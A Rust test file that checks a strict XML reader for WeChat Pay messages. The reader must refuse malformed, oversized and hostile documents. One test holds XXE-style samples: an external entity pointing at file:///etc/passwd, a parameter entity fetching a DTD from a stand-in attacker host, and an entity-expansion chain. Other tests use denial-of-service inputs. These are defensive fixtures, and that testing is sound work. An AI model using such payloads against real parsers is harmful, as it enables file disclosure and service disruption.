//! faults.md P15-P28 and N14: what no message of WeChat Pay looks like.

use super::{Fields, MAX_BYTES, XmlError, read, text};
use crate::wire::v2::fields::FieldsError;
use std::time::{Duration, Instant};

/// Refuses each, and says which one was not.
fn refuses(documents: &[&str]) {
    for document in documents {
        assert!(read(document).is_err(), "accepted: {document:?}");
    }
}

/// Refuses a large document in far less time than anything quadratic would take.
fn refuses_soon(document: &str) -> XmlError {
    assert!(document.len() <= MAX_BYTES, "{} is more than the cap takes", document.len());
    let started = Instant::now();
    let error = read(document).unwrap_err();
    assert!(started.elapsed() < Duration::from_secs(5), "{:?}", started.elapsed());
    error
}

fn takes_soon(document: &str) -> Fields {
    assert!(document.len() <= MAX_BYTES);
    let started = Instant::now();
    let fields = read(document).unwrap();
    assert!(started.elapsed() < Duration::from_secs(5), "{:?}", started.elapsed());
    fields
}

fn numbered(count: usize, piece: impl Fn(usize) -> String) -> String {
    (0..count).map(piece).collect()
}

#[test]
fn p15_a_duplicate_field_is_refused_with_the_same_value_and_with_another() {
    for twice in ["<a>1</a><a>1</a>", "<a>1</a><a>2</a>", "<a/><b/><a>1</a>", "<a>1</a><a/>"] {
        let error = read(format!("<xml>{twice}</xml>")).unwrap_err();
        assert_eq!(error, XmlError::Fields(FieldsError::Duplicate("a".into())), "{twice}");
    }
}

#[test]
fn p16_an_element_inside_a_value_is_refused() {
    for inner in ["<b>1</b>", "<b/>", "1<b/>", "<b>1</b>2", "<a>1</a>", "<xml/>"] {
        let error = text(inner).unwrap_err();
        let expected = XmlError::Refused { what: "an element inside a value", name: "a".into() };
        assert_eq!(error, expected, "{inner}");
    }
}

#[test]
fn p17_a_comment_or_a_processing_instruction_inside_a_value_is_refused() {
    for inner in ["1<!-- x -->", "<!---->", "1<!-- x -->2", "<?pi?>", "1<?pi x?>2", "<?xml version=\"1.0\"?>"]
    {
        assert!(matches!(text(inner), Err(XmlError::Refused { .. })), "{inner}");
    }
}

#[test]
fn p18_cdata_split_mixed_and_nested_looking_gives_one_defined_text() {
    for (inner, expected) in [
        ("<![CDATA[x]]]]><![CDATA[>y&<z]]>", "x]]>y&<z"),
        ("a<![CDATA[b]]>c&amp;<![CDATA[d]]>", "abc&d"),
        ("<![CDATA[]]>", ""),
        ("<![CDATA[]]><![CDATA[]]>", ""),
        ("<![CDATA[]]]>", "]"),
        ("<![CDATA[]]]]>", "]]"),
        ("<![CDATA[<![CDATA[]]>", "<![CDATA["),
        ("<![CDATA[<!-- x --><b>&amp;]]>", "<!-- x --><b>&amp;"),
        ("<![CDATA[>]]>", ">"),
        ("]]<![CDATA[>]]>", "]]>"),
        ("]]&gt;", "]]>"),
        ("]&#93;>", "]]>"),
        ("] ]>", "] ]>"),
    ] {
        assert_eq!(text(inner).unwrap(), expected, "{inner}");
    }
}

#[test]
fn p18_a_cdata_end_outside_cdata_is_refused() {
    for inner in ["]]>", "<![CDATA[x]]>]]>", "]]]>", "<![CDATA[a]]>b]]>", "<![cdata[x]]>", "<![CDATA [x]]>"] {
        assert!(text(inner).is_err(), "{inner}");
    }
    refuses(&["<xml>]]></xml>", "<xml><a>1</a></xml>]]>", "<xml><![CDATA[ ]]></xml>", "<![CDATA[ ]]><xml/>"]);
}

#[test]
fn p19_any_doctype_is_refused_where_it_begins() {
    let refused = XmlError::Refused { what: "a DOCTYPE", name: String::new() };
    for document in [
        "<!DOCTYPE xml><xml/>",
        "<?xml version=\"1.0\"?><!DOCTYPE xml [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><xml><a>&x;</a></xml>",
        "<!DOCTYPE root [<!ENTITY % a SYSTEM \"http://attacker.test/x.dtd\">%a;]><xml/>",
        "<!DOCTYPE l [<!ENTITY a \"aa\"><!ENTITY b \"&a;&a;\">]><xml><a>&b;</a></xml>",
        "\u{FEFF}<!DOCTYPE xml SYSTEM \"x.dtd\"><xml/>",
        "<!-- c --><!DOCTYPE xml><xml/>",
    ] {
        assert_eq!(read(document), Err(refused.clone()), "{document}");
    }
    refuses(&[
        "<!doctype xml><xml/>",
        "<xml><!DOCTYPE xml></xml>",
        "<xml/><!DOCTYPE xml>",
        "<xml><a><!DOCTYPE xml></a></xml>",
        "<!DOCTYPE><xml/>",
        "<!DOCTYPE xml",
        "<!ENTITY x \"y\"><xml/>",
        "<xml><!ELEMENT a></xml>",
    ]);
}

#[test]
fn p20_an_undefined_entity_is_refused() {
    for entity in ["&x;", "&nbsp;", "&LT;", "& lt;", "&lt ;", "&;", "&", "&amp", "&&amp;", "&a&b;", "&%a;"] {
        assert!(text(entity).is_err(), "{entity}");
    }
    refuses(&["<xml>&amp;</xml>", "&lt;<xml/>", "<xml/>&#32;"]);
}

#[test]
fn p21_a_character_reference_to_no_xml_character_is_refused() {
    for reference in [
        "&#0;",
        "&#x0;",
        "&#1;",
        "&#x1F;",
        "&#xD800;",
        "&#xDFFF;",
        "&#xFFFE;",
        "&#xFFFF;",
        "&#x110000;",
        "&#99999999999;",
        "&#x;",
        "&#;",
        "&#X41;",
        "&#xG;",
        "&#-65;",
        "&#+65;",
        "&# 65;",
        "&#65",
        "&#6５;",
        "&#0x41;",
    ] {
        assert!(text(reference).is_err(), "{reference}");
    }
}

#[test]
fn p22_invalid_and_overlong_utf8_is_refused_wherever_it_stands() {
    let wrong: [&[u8]; 7] =
        [b"\xFF", b"\xC0\x80", b"\xE0\x80\xAF", b"\xED\xA0\x80", b"\xF4\x90\x80\x80", b"\xE4\xB8", b"\x80"];
    for bytes in wrong {
        for (before, after) in
            [("<xml><a>", "</a></xml>"), ("<xml><!-- ", " --></xml>"), ("<xml><a", "/></xml>")]
        {
            let document = [before.as_bytes(), bytes, after.as_bytes()].concat();
            assert_eq!(read(&document), Err(XmlError::NotUtf8(before.len())), "{bytes:x?}");
        }
    }
}

#[test]
fn p23_other_encodings_are_refused_and_a_utf8_bom_is_not() {
    for name in ["GBK", "gb2312", "UTF-16", "UTF-7", "ISO-8859-1", "US-ASCII", "UTF8", ""] {
        assert!(read(format!("<?xml version=\"1.0\" encoding=\"{name}\"?><xml/>")).is_err(), "{name}");
    }
    let utf16: Vec<u8> = "\u{FEFF}<xml/>".encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert!(read(utf16).is_err());
    assert!(read("\u{FEFF}<xml/>").is_ok());
    refuses(&["\u{FEFF}\u{FEFF}<xml/>", "<xml/>\u{FEFF}", "+ADw-xml/+AD4-"]);
}

#[test]
fn p24_a_nul_or_control_character_is_refused_wherever_it_stands() {
    for c in ['\0', '\u{1}', '\u{8}', '\u{B}', '\u{C}', '\u{1F}', '\u{FFFE}', '\u{FFFF}'] {
        for document in [
            format!("<xml><a>{c}</a></xml>"),
            format!("<xml><a><![CDATA[{c}]]></a></xml>"),
            format!("<xml><!-- {c} --></xml>"),
            format!("<xml/>{c}"),
            format!("<a{c}/>"),
        ] {
            assert_eq!(read(document), Err(XmlError::Character(c.into())));
        }
    }
}

#[test]
fn p25_any_attribute_is_refused() {
    let attribute = |document: &str| match read(document) {
        Err(XmlError::Refused { what, .. }) => assert_eq!(what, "an attribute", "{document}"),
        other => panic!("{document}: {other:?}"),
    };
    for document in [
        "<xml><a b=\"c\">1</a></xml>",
        "<xml><a b='>'>1</a></xml>",
        "<xml><a b>1</a></xml>",
        "<xml><a\nb=\"c\"/></xml>",
        "<xml a=\"b\"></xml>",
        "<xml\txmlns=\"x\"/>",
    ] {
        attribute(document);
    }
    refuses(&["<xml><a></a b></xml>", "<xml><a></a b=\"c\"></xml>", "<xml><a b=\"c></a></xml>"]);
}

#[test]
fn p25_eighty_thousand_attributes_or_one_of_a_mebibyte_are_refused_in_linear_time() {
    let many = numbered(80_000, |n| format!(" a{n}=\"\""));
    refuses_soon(&format!("<xml><a{many}/></xml>"));
    refuses_soon(&format!("<xml><a b=\"{}\"/></xml>", "x".repeat(MAX_BYTES - 30)));
    refuses_soon(&format!("<xml><a b=\"{}", "x".repeat(MAX_BYTES - 30)));
}

#[test]
fn p26_a_depth_of_a_hundred_thousand_is_refused_at_the_second_step_without_recursion() {
    let error = refuses_soon(&format!("<xml>{}", "<a>".repeat(100_000)));
    assert_eq!(error, XmlError::Refused { what: "an element inside a value", name: "a".into() });
    refuses_soon(&"<xml>".repeat(100_000));
    refuses_soon(&"</xml>".repeat(100_000));
}

#[test]
fn p27_a_million_empty_elements_are_refused_at_the_4097th() {
    let million = numbered(100_000, |n| format!("<f{n}/>"));
    assert_eq!(refuses_soon(&format!("<xml>{million}</xml>")), XmlError::Fields(FieldsError::TooMany));
    assert_eq!(
        refuses_soon(&format!("<xml>{}</xml>", "<a/>".repeat(260_000))),
        XmlError::Fields(FieldsError::TooMany)
    );
    let all = numbered(Fields::MAX, |n| format!("<f{n}/>"));
    assert_eq!(takes_soon(&format!("<xml>{all}</xml>")).len(), Fields::MAX);
}

#[test]
fn p28_a_second_root_or_anything_after_the_root_is_refused() {
    refuses(&[
        "<xml/><xml/>",
        "<xml></xml><a/>",
        "<xml/>x",
        "<xml/>\0",
        "<xml/></xml>",
        "<xml/><",
        "<xml/>&amp;",
        "<xml/><![CDATA[]]>",
        "<xml/><?pi?>",
        "<xml/><?xml version=\"1.0\"?>",
        "x<xml/>",
        "</xml><xml/>",
    ]);
}

#[test]
fn n14_one_byte_over_a_mebibyte_is_refused_unread() {
    assert_eq!(read(vec![0xFF; MAX_BYTES + 1]), Err(XmlError::TooLarge));
}

#[test]
fn long_runs_of_one_thing_are_read_in_linear_time() {
    let fill = |piece: &str| piece.repeat((MAX_BYTES - 40) / piece.len());
    assert_eq!(takes_soon(&format!("<xml><a>{}</a></xml>", fill("&amp;"))).get("a").unwrap().len(), 209_707);
    takes_soon(&format!("<xml><a>{}</a></xml>", fill("<![CDATA[]]]]><![CDATA[>]]>")));
    takes_soon(&format!("<xml><a>{}</a></xml>", fill("\r\n")));
    takes_soon(&format!("<xml>{}</xml>", fill("<!-- c -->")));
    takes_soon(&format!("<xml><!-- {} --></xml>", fill("- ")));
    takes_soon(&format!("{}<xml/>", fill(" ")));
    for piece in ["]]>", "<", "&", "<!--", "<![CDATA[", "<?", "</", "<a ", "\"", "&#1", "<a><", "<!D", "--"] {
        refuses_soon(&format!("<xml><a>{}", fill(piece)));
        refuses_soon(&fill(piece));
    }
    refuses_soon(&format!("<xml><{}/></xml>", fill("a")));
    refuses_soon(&format!("<xml><a>&{};</a></xml>", fill("a")));
    refuses_soon(&format!("<xml><a>&#{};</a></xml>", fill("0")));
}

#[test]
fn what_is_cut_short_is_refused_wherever_the_cut_is() {
    let document = "<?xml version=\"1.0\"?><!-- c --><xml><a>1&amp;</a><b><![CDATA[x]]></b></xml>";
    assert!(read(document).is_ok());
    for end in 0..document.len() {
        assert!(read(&document[..end]).is_err(), "{}", &document[..end]);
    }
    assert_eq!(read("<xml><a>1</a>"), Err(XmlError::Truncated));
    assert_eq!(read(""), Err(XmlError::Empty));
    assert_eq!(read(" \r\n"), Err(XmlError::Empty));
}

#[test]
fn tags_that_no_xml_parser_takes_are_refused() {
    refuses(&[
        "<xml><a/ ></xml>",
        "<xml><a//></xml>",
        "<xml></a/></xml>",
        "<xml><a></a/></xml>",
        "<xml><a></ a></xml>",
        "<xml>< a></a></xml>",
        "<xml><a></b></xml>",
        "<xml><a></xml>",
        "<xml><></></xml>",
        "<xml></xml",
        "<xml><a</a></xml>",
        "<xml><1>1</1></xml>",
        "<xml><-a/></xml>",
        "<xml><a:b/></xml>",
        "<xml><名/></xml>",
        "<xml><a>1 < 2</a></xml>",
        "<xml><a><</a></xml>",
        "<xml><a>1</a>text</xml>",
    ]);
}

#[test]
fn a_wrong_declaration_is_refused() {
    refuses(&[
        " <?xml version=\"1.0\"?><xml/>",
        "<!-- c --><?xml version=\"1.0\"?><xml/>",
        "<xml><?xml version=\"1.0\"?></xml>",
        "<?xml?><xml/>",
        "<?xml version=\"1.1\"?><xml/>",
        "<?xml version=\"1.0\"encoding=\"UTF-8\"?><xml/>",
        "<?xml encoding=\"UTF-8\" version=\"1.0\"?><xml/>",
        "<?xml encoding=\"UTF-8\"?><xml/>",
        "<?xml version=1.0?><xml/>",
        "<?xml version=\"1.0'?><xml/>",
        "<?xml version=\"1.0\" standalone=\"maybe\"?><xml/>",
        "<?xml version=\"1.0\" foo=\"bar\"?><xml/>",
        "<?xml version=\"1.0\" ??><xml/>",
        "<?xml version=\"1.0\"><xml/>",
        "<?XML version=\"1.0\"?><xml/>",
        "<?xml version=\"1.0\"?><?xml version=\"1.0\"?><xml/>",
    ]);
}

#[test]
fn a_wrong_comment_is_refused() {
    for comment in ["<!-->", "<!--->", "<!-- -- -->", "<!-- a--->", "<!- a -->", "<!-- a -- >", "<!-- a ->"] {
        refuses(&[
            &format!("<xml>{comment}</xml>"),
            &format!("{comment}<xml/>"),
            &format!("<xml/>{comment}"),
        ]);
    }
}

#[test]
fn p26_a_refusal_never_repeats_the_message_at_length() {
    let long = "c".repeat(900_000);
    for document in [
        format!("<xml><a>1</{long}></xml>"),
        format!("<xml></{long}>"),
        format!("<xml><a>&{long};</a></xml>"),
        format!("<xml><{long}"),
        format!("<xml><a>&{long}</a></xml>"),
        format!("<{long}/>"),
        format!("<xml {long}='1'/>"),
        format!("<?xml {long}?><xml/>"),
        format!("<xml><!{long}></xml>"),
    ] {
        let words = refuses_soon(&document).to_string();
        assert!(words.len() < 300, "{} bytes of {}", words.len(), &words[..100]);
    }
}
